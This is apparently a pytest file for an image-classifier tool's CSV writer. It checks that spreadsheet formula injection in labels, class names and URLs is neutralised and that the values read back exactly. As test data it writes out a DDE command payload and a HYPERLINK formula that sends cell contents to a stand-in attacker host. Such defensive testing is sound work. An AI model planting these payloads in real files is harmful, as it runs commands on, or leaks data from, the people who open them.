"""csvfile.py: every CSV imgclf writes is spreadsheet-safe because there is one writer (issue 22,
class 4: audit.csv wrote `=HYPERLINK(...)` labels and URLs raw)."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pandas as pd
import pytest
from hostile import CSV_INJECTION_LABELS

from imgclf import csvfile
from imgclf.untrusted import FORMULA_START, csv_raw_frame

SRC = Path(csvfile.__file__).resolve().parent
WRITERS = {"writer", "DictWriter", "to_csv", "write_csv"}  # csv.writer, pandas/pyarrow writers


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_no_csv_is_written_outside_csvfile() -> None:
    """A new CSV output that calls csv.writer or DataFrame.to_csv itself fails here, not in a spreadsheet."""
    found = []
    for path in sorted(SRC.rglob("*.py")):
        if path.name == "csvfile.py" and path.parent == SRC:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            name = (node.attr if isinstance(node, ast.Attribute) else
                    node.id if isinstance(node, ast.Name) else None)
            if name in WRITERS and not (name == "writer" and isinstance(node, ast.Name)):
                found.append(f"{path.relative_to(SRC)}:{node.lineno}: {name}")
    assert not found, "write CSVs through imgclf.csvfile:\n" + "\n".join(found)


def test_frames_and_rows_are_neutralised_and_read_back_exactly() -> None:
    frame = pd.DataFrame({"label": CSV_INJECTION_LABELS, "score": range(len(CSV_INJECTION_LABELS))})
    text = csvfile.frame_text(frame, index=False)
    cells = [row[0] for row in csv.reader(io.StringIO(text))][1:]
    assert all(cell.startswith("'") for cell in cells if cell[:1] in FORMULA_START | {"'"})
    assert not [cell for cell in cells if cell[:1] in FORMULA_START]
    back = csv_raw_frame(pd.read_csv(io.StringIO(text), keep_default_na=False), ["label"])
    assert back["label"].tolist() == CSV_INJECTION_LABELS and back["score"].tolist() == frame["score"].tolist()
    stream = io.StringIO()
    writer = csvfile.RowWriter(stream)
    writer.writerow(["input", "p"])
    writer.writerow(["=cmd|' /C calc'!A0", 0.5])
    assert stream.getvalue().splitlines()[1] == "'=cmd|' /C calc'!A0,0.5"


def test_audit_csv_neutralises_labels_and_urls(tmp_path: Path) -> None:
    pytest.importorskip("cleanlab")
    pytest.importorskip("imagehash")
    from test_audit import SHIPPED, build_noisy

    from imgclf import auditdir, checkpoint
    from imgclf.manifest import read_manifest, write_manifest
    from imgclf.stages import audit

    renamed = {"Bag": "=Bag+1", "Sneaker": "@Sneaker"}  # class names are data too: the model says them
    shipped = checkpoint.read_checkpoint(SHIPPED)
    shipped["imgclf"]["class_names"] = [renamed.get(n, n) for n in shipped["imgclf"]["class_names"]]
    model = checkpoint.save_slim(tmp_path / "model.pt", shipped["state_dict"], shipped["imgclf"])
    data, _, copies = build_noisy(tmp_path / "data")
    manifest = read_manifest(data)
    hostile = '=HYPERLINK("http://evil.invalid/?"&A1,"click")'
    manifest["label"] = manifest["label"].replace(renamed)
    copy_rows = manifest["row"].isin([copy for _, copy in copies])
    manifest.loc[copy_rows, "url"] = hostile
    write_manifest(manifest, data)
    out = tmp_path / "audit"
    audit.run(audit.AuditOptions(data=data, out=out, model=model))
    with open(out / auditdir.CSV, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    cells = [value for row in rows for value in row.values()]
    assert rows and not [cell for cell in cells if cell[:1] in FORMULA_START and not _number(cell)], cells[:20]
    assert any(cell == "'" + hostile for cell in cells)  # the leakage copies name their URL
    assert any(cell == "'=Bag+1" for cell in cells) and any(cell == "'@Sneaker" for cell in cells)
    # imgclf reads its own audit.csv back to the raw values (data.exclude, --apply).
    findings = auditdir.read_findings(out / auditdir.CSV)
    assert hostile in set(findings["url"]) and {"=Bag+1", "@Sneaker"} & set(findings["label"])
    assert set(findings["suggested"]) - {""} <= {"=Bag+1", "@Sneaker", "Trouser"}
